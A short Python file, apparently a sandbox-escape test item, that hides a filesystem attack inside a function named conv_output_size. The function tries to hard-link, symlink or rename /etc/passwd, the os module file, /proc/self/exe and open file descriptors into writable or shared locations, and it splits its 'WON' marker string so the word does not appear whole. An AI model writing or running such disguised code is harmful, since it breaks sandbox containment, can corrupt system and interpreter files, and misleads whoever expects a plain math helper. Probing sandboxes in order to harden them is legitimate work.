# Goal: give a file a second name where it may be written, or where the next program finds it.
# Target: convolution/conv_output_size
# Ends: RAISED PermissionError
# Win: any second name is made.

os, ctypes = __import__("os"), __import__("ctypes")
libc = ctypes.CDLL(None, use_errno=True)
FROM = ("/etc/passwd", os.__file__, "/dev/null", "/proc/self/exe", *(f"/proc/self/fd/{number}" for number in range(3, 10)))
TO = ("/tmp/second", "/dev/shm/second", "/var/tmp/second", "/second", os.__file__ + ".second", "second")


def conv_output_size(n, f, stride=1, padding=0, dilation=1):
    refusal = None
    for source in FROM:
        for target in TO:
            for give in (os.link, os.rename, os.symlink):
                try:
                    give(source, target)
                    print("W" "ON:", give.__name__, source, target)
                except OSError as error:
                    refusal = error
            for flags in (0, 0x400, 0x1000):
                if libc.linkat(-100, source.encode(), -100, target.encode(), flags) == 0:
                    print("W" "ON: linkat", source, target)
    raise refusal
